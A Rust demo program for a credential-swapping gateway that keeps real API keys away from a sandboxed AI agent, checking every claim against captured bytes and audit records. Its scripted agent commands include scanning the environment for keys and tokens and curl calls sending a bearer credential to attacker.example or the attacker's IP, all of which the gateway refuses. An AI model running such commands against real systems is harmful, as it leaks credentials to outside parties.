//! `make demo`: the story of one placeholder, told with the real bytes.
//!
//! It runs in namespaces of its own, needs no network, and leaves nothing behind. Every line that
//! it shows was received, sent or logged by a real program. Where a line differs from the story, or
//! the demonstration takes too long, it ends with an error.
//!
//! The keys are in a real Vault if one is found, or if `VAULT=1` asks for one; `VAULT=0` uses the
//! gateway's own file of secrets.

use std::{
    io::{self, IsTerminal as _, Write as _},
    process::{Command, ExitCode},
    sync::LazyLock,
    thread,
    time::{Duration, Instant},
};

use lab::{
    World,
    audit::Record,
    client,
    gateway::{self, OPENAI_SECRET, SECRETS},
    net::{AGENT, ATTACKER, OPENAI, PYPI},
    sandbox, tools,
    vault::{self, Vault},
    wait,
    wire::Wire,
};

fn main() -> ExitCode {
    if !sandbox::inside() {
        return outside();
    }
    let begun = Instant::now();
    let mut story = Story::begin();
    story.the_agent_has_nothing_worth_stealing();
    story.the_api_receives_the_key();
    story.the_same_over_http_2();
    story.what_the_api_repeats_is_masked();
    story.the_placeholder_is_worth_nothing_elsewhere();
    story.the_agents_own_key_is_refused();
    story.a_let_through_host_keeps_its_own_certificate();
    story.the_wire_never_held_the_key();
    story.the_audit_says_what_happened();
    story.a_dead_gateway_passes_nothing();
    say(&format!("\nEverything above held; it took {:.1} s.", begun.elapsed().as_secs_f32()));
    say(&format!("More to try:\n{NEXT}"));
    ExitCode::SUCCESS
}

/// Runs this program again in a sandbox, for [`LIMIT`] at most.
fn outside() -> ExitCode {
    if wants_vault() == Some(true) && vault::find().is_none() && !fetch_vault() {
        return failure("VAULT=1, and no Vault can be had");
    }
    let program = std::env::current_exe().expect("a program knows where it is");
    let started = sandbox::command(&program).env("RUST_BACKTRACE", "0").spawn();
    let mut story = match started {
        Ok(story) => story,
        Err(error) => return failure(&format!("no namespaces: {error}; run tests/prerequisites")),
    };
    match wait::until(LIMIT, || story.try_wait().transpose()) {
        Some(Ok(status)) if status.success() => ExitCode::SUCCESS,
        Some(Ok(status)) => failure(&format!("the story did not come to its end ({status})")),
        Some(Err(error)) => failure(&error.to_string()),
        None => {
            // The namespaces end with their first process, and everything in them.
            let ended = story.kill().and_then(|()| story.wait());
            failure(&format!("no end after {LIMIT:?}; stopped ({ended:?})"))
        }
    }
}

fn failure(why: &str) -> ExitCode {
    eprintln!("demo: {why}");
    ExitCode::FAILURE
}

/// Returns what the variable VAULT asks for; `None` where it is not set.
fn wants_vault() -> Option<bool> {
    let value = std::env::var("VAULT").ok().filter(|value| !value.is_empty())?;
    Some(value != "0")
}

fn fetch_vault() -> bool {
    let status = Command::new(tools::repository().join("tests/vault/get")).status();
    status.is_ok_and(|status| status.success()) && vault::find().is_some()
}

struct Story {
    world: World,
    wire: Wire,
}

impl Story {
    fn begin() -> Self {
        say(NETWORK);
        progress("four network namespaces, the API and the attacker's server");
        let builder = World::builder();
        let use_vault = wants_vault().unwrap_or_else(|| vault::find().is_some());
        let config = if use_vault {
            progress("a real Vault at https://203.0.113.200:8200, with an AppRole and the keys");
            Vault::start(&builder.lab).config()
        } else {
            progress("the keys in a file for the gateway alone (VAULT=1 takes a real Vault)");
            gateway::usual_config()
        };
        progress("the guard, the certificates, the gateway");
        let world = builder.start(&config);
        let wire = Wire::tap(&world.lab, AGENT);
        Self { world, wire }
    }

    fn the_agent_has_nothing_worth_stealing(&self) {
        chapter("The agent's key");
        let output = self.agent("echo $OPENAI_API_KEY");
        check(output.trim() == "OPENAI_API_KEY", "the variable holds its own name");
        let files = self.agent("env | grep -E 'KEY|TOKEN' | sort");
        check(!SECRETS.iter().any(|it| files.contains(it)), "and so do the others");
    }

    fn the_api_receives_the_key(&self) {
        chapter("A request to the API that the placeholder belongs to");
        let output = self.agent(
            "curl -sS --http1.1 -w '\\n%{http_code}\\n' \\\n    \
             https://api.openai.example/v1/chat/completions \\\n    \
             -H \"Authorization: Bearer $OPENAI_API_KEY\" \\\n    \
             -d '{\"model\":\"lab-1\",\"prompt\":\"what is OPENAI_API_KEY?\"}'",
        );
        check(output.trim().ends_with("\n200"), "the API answers 200");
        let connections = self.world.origin.log().connections();
        let received = connections.last().map_or(&[][..], |connection| &connection.bytes);
        let received = String::from_utf8_lossy(received).into_owned();
        note("What the API received, byte for byte after decryption:");
        shown(&received);
        let line = format!("authorization: Bearer {OPENAI_SECRET}\r\n");
        check(received.to_lowercase().contains(&line.to_lowercase()), "the key in its place");
        check(received.matches(OPENAI_SECRET).count() == 1, "once");
        check(received.matches("OPENAI_API_KEY").count() == 1, "a prompt is not searched");
        check(!output.contains(OPENAI_SECRET), "the agent saw nothing of it");
    }

    fn the_same_over_http_2(&self) {
        chapter("The same over HTTP/2");
        let output = self.agent(
            "curl -sS --http2 -o /dev/null -w 'HTTP/%{http_version} %{http_code}\\n' \\\n    \
             https://api.openai.example/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        );
        check(output.trim() == "HTTP/2 200", "the API answers 200");
        let requests = self.world.origin.log().requests();
        let fields = requests.last().map(|request| request.header("authorization"));
        let fields = fields.unwrap_or_default();
        note("The API received:");
        shown(&format!("authorization: {}", fields.join(", ")));
        check(fields == [format!("Bearer {OPENAI_SECRET}")], "the key in its place, once");
    }

    fn what_the_api_repeats_is_masked(&self) {
        chapter("An API that repeats what it was sent");
        let output = self.agent(
            "curl -sS -i https://api.openai.example/reflect \\\n    \
             -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        );
        check(output.contains("you sent Bearer *"), "masked on its way back, head and body");
        check(!output.contains(OPENAI_SECRET), "the agent saw nothing of it");
    }

    fn the_placeholder_is_worth_nothing_elsewhere(&self) {
        chapter("The same placeholder, sent somewhere else");
        let before = self.world.origin.log().connections().len();
        let bearer = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
        aside("To a host that no policy lists:");
        self.agent_fails(&format!("curl -sS {bearer} https://attacker.example/"));
        self.reason("sni_denied");
        aside("To another API:");
        let other =
            self.agent(&format!("curl -sS {bearer} https://api.anthropic.example/v1/models"));
        check(other.contains("\"placeholder_wrong_host\""), "refused, with the reason");
        aside("In clear text:");
        let clear = self.agent(&format!("curl -sS {bearer} http://api.openai.example/v1/models"));
        check(clear.contains("\"plaintext_placeholder\""), "refused, with the reason");
        aside("To the API's name at the attacker's address:");
        let attacker = ATTACKER.v4();
        let output = self.agent(&format!(
            "curl -sS -4 --connect-to ::{attacker}:443 -o /dev/null {bearer} \\\n    \
             -w '%{{http_code}} from %{{remote_ip}}\\n' https://api.openai.example/v1/models"
        ));
        check(output.trim() == format!("200 from {attacker}"), "the agent believes it is there");
        let new = self.world.origin.log().connections().split_off(before);
        let attacked = new.iter().any(|connection| connection.local.ip() == attacker);
        check(!attacked, "the attacker's server saw no connection: the gateway dials the name");
        let others = new.iter().filter(|it| it.sni.as_deref() != Some(OPENAI.name));
        let leaked = others.filter(|connection| connection.count(OPENAI_SECRET) > 0).count();
        check(leaked == 0, "no other host saw the key");
    }

    fn the_agents_own_key_is_refused(&self) {
        chapter("A key that the agent brought along");
        let before = self.world.origin.log().requests().len();
        let output = self.agent(
            "curl -sS https://api.openai.example/v1/models \\\n    \
             -H 'Authorization: Bearer sk-the-attackers-own-account'",
        );
        check(output.contains("\"foreign_credential\""), "the classic way out is closed");
        check(self.world.origin.log().requests().len() == before, "the API received nothing");
    }

    fn a_let_through_host_keeps_its_own_certificate(&self) {
        chapter("A host that policy lets through untouched");
        let issuer = |host: &str| {
            format!("curl -sS -v https://{host}/v1/x 2>&1 | sed -n 's/^\\*  *issuer/issuer/p'")
        };
        let own = self.agent(&issuer(PYPI.name));
        check(own.contains("Lab public root"), "end to end: its own certificate");
        let ours = self.agent(&issuer(OPENAI.name));
        check(
            ours.contains("Cloakroom"),
            "only where keys are swapped does TLS end at the gateway",
        );
    }

    fn the_wire_never_held_the_key(&self) {
        chapter("Every packet on the agent's link, decrypted with the agent's own TLS keys");
        let sessions = self.wire.sessions();
        let bytes: usize = sessions.iter().map(|it| it.sent.len() + it.received.len()).sum();
        note(&format!("{} TLS connections, {bytes} bytes of clear text", sessions.len()));
        let found = sessions.iter().filter(|session| session.sends("OPENAI_API_KEY")).count();
        check(found > 3, &format!("the placeholder is in {found} of them"));
        self.wire.assert_never(&SECRETS);
        check(true, "no key is in any, plainly, in Base64 or in HPACK's code");
    }

    fn the_audit_says_what_happened(&self) {
        chapter("What the audit says");
        // A connection's record is written when it has ended.
        thread::sleep(wait::QUIET);
        let records = self.world.gateway.audit.records();
        let told = |record: &&Record| record.is("request") || record["decision"] == "refuse";
        let told: Vec<_> = records.iter().filter(told).collect();
        for record in &told {
            note(&summary(record));
        }
        let swapped = told.iter().position(|record| record["upstream_status"] == 200);
        check(swapped.is_some(), "each request, and each refused connection, is one record");
        aside("The first of them as it is in the file:");
        let text = self.world.gateway.audit.text();
        let line = text.lines().find(|line| line.contains("\"upstream_status\":200"));
        for part in line.unwrap_or_default().as_bytes().chunks(WIDTH) {
            shown(&String::from_utf8_lossy(part));
        }
        check(!SECRETS.iter().any(|secret| text.contains(secret)), "names of keys, and no key");
    }

    fn a_dead_gateway_passes_nothing(&mut self) {
        chapter("kill -9");
        self.world.gateway.kill();
        gateway::forward();
        let before = self.world.origin.log().connections().len();
        self.agent_fails("curl -sS --max-time 3 https://pypi.example/");
        thread::sleep(wait::QUIET);
        let after = self.world.origin.log().connections().len();
        check(before == after, "the gateway's kernel would forward; its guard does not");
    }

    /// Runs a line in the agent's shell and shows both.
    fn agent(&self, line: &str) -> String {
        let (_, output) = self.run(line);
        output
    }

    fn agent_fails(&self, line: &str) {
        let (success, _) = self.run(line);
        check(!success, "refused");
    }

    fn run(&self, line: &str) -> (bool, String) {
        say(&format!("\n  {} {}", PAINT.dim("agent$"), PAINT.bold(line)));
        let mut shell = client::agent(&self.world.lab, AGENT, "timeout");
        shell.env("SSLKEYLOGFILE", self.wire.keys()).args(["20", "sh", "-c", line]);
        let output = shell.output().expect("a shell starts");
        let text = [output.stdout, output.stderr].concat();
        let text = String::from_utf8_lossy(&text).into_owned();
        shown(&text);
        (output.status.success(), text)
    }

    fn reason(&self, reason: &str) {
        let record = self.world.gateway.audit.wait_reason(reason);
        note(&format!("The audit: {}", summary(&record)));
    }
}

/// Formats a record on one line; every word is the record's.
fn summary(record: &Record) -> String {
    let word = |name: &str| record[name].as_str().unwrap_or_default().to_owned();
    let what = if record.is("request") {
        format!("{} {}{}", word("method"), word("host"), word("path"))
    } else {
        let name = [word("sni"), word("host")].concat();
        format!("connect {} for {name}", word("dialled"))
    };
    let status = record["upstream_status"].as_u64().map(|status| status.to_string());
    let placeholder = record["placeholders"][0].as_str().map(str::to_owned);
    let rest = [Some(word("reason")), placeholder, status].into_iter().flatten();
    let rest: Vec<_> = rest.filter(|word| !word.is_empty()).collect();
    format!("{:<9} {what:<58} {}", word("decision"), rest.join(" "))
}

fn say(text: &str) {
    // The reader of a pipe that is closed has seen enough.
    let _ = writeln!(io::stdout(), "{text}");
}

fn progress(step: &str) {
    say(&format!("  {} {step}", PAINT.dim("...")));
}

fn chapter(title: &str) {
    let rule = "-".repeat(76_usize.saturating_sub(title.len()));
    say(&format!("\n{} {}", PAINT.bold(title), PAINT.dim(&rule)));
}

fn note(text: &str) {
    say(&format!("  {text}"));
}

fn aside(text: &str) {
    say(&format!("\n  {text}"));
}

/// Shows a program's output or bytes from the wire; cuts long lines with an ellipsis.
fn shown(text: &str) {
    for line in text.lines() {
        let mut line = line.replace(|letter: char| letter.is_control(), "");
        if line.chars().count() > WIDTH {
            line = line.chars().take(WIDTH).chain(['…']).collect();
        }
        say(&format!("  {} {}", PAINT.dim("|"), PAINT.keys(&line)));
    }
}

/// Prints the claim, or ends the demonstration where it does not hold.
fn check(holds: bool, claim: &str) {
    if !holds {
        eprintln!("demo: this does not hold: {claim}");
        std::process::exit(1);
    }
    say(&format!("  {} {claim}", PAINT.good("=>")));
}

/// Colours, used where a person looks.
struct Paint(bool);

impl Paint {
    fn bold(&self, text: &str) -> String {
        self.with("1", text)
    }

    fn dim(&self, text: &str) -> String {
        self.with("2", text)
    }

    fn good(&self, text: &str) -> String {
        self.with("32", text)
    }

    /// Marks keys and placeholders in a line.
    fn keys(&self, line: &str) -> String {
        let line = line.replace(OPENAI_SECRET, &self.with("31;1", OPENAI_SECRET));
        line.replace("OPENAI_API_KEY", &self.with("33", "OPENAI_API_KEY"))
    }

    fn with(&self, code: &str, text: &str) -> String {
        if self.0 { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }
}

static PAINT: LazyLock<Paint> = LazyLock::new(|| {
    let unwanted = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
    Paint(io::stdout().is_terminal() && !unwanted)
});

/// Longest time of a story. One that takes longer is stuck.
const LIMIT: Duration = Duration::from_secs(55);
/// Letters of a line of output that are shown.
const WIDTH: usize = 100;

const NETWORK: &str = "
  agent  192.0.2.10 ───┐
                       ├─ gateway ─── internet: api.openai.example   198.51.100.10
  agent2 192.0.2.140 ──┘                        pypi.example         198.51.100.30
                                                attacker.example     198.51.100.66

Network namespaces on this machine; the gateway is the agents' default route.";

const NEXT: &str = "
  make test                        every promise, as a test that looks at what the API received
  VAULT=1 make demo                with a real Vault (downloaded or built once); VAULT=0 without
  target/debug/cloakroom --help    the program
  tests/lab/gateway.rs             the policy that you have just seen at work";
